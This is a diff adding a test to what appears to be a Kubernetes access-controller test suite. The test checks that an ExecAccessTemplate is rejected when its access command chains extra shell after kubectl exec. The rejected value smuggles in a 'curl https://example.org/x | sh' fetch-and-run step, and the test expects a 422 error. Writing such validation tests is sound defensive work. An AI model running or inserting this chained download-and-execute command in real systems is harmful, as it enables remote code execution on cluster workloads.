@@ -88,6 +88,21 @@ describe('M20: a request that can never be granted is refused when it is made', 
     });
   }
 
+  it('and so is a template whose access command does more than enter the pod', async () => {
+    const accessCommand = 'kubectl exec -ti {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh';
+    const answer = await stage.plane.call('POST', stage.urlOf('ExecAccessTemplate'), {
+      apiVersion: 'crds.wizardofoz.co/v1alpha1',
+      kind: 'ExecAccessTemplate',
+      metadata: { name: 'more-than-enter' },
+      spec: {
+        accessConfig: { allowedGroups: ['devs'], accessCommand },
+        controllerTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'payments' },
+      },
+    });
+    assert.equal(answer.status, 422, JSON.stringify(answer.body));
+    assert.match((answer.body as { message: string }).message, /InvalidAccessCommand: accessCommand has ";" outside/);
+  });
+
   it('but one for more than the maximum gets the maximum, and is told at once and in its condition', async () => {
     const { stderr } = await stage.alice.kubectl(['create', '-n', stage.namespace, '-f', '-'], {
       input: JSON.stringify(podRequest('too-long', { duration: '99h' })),
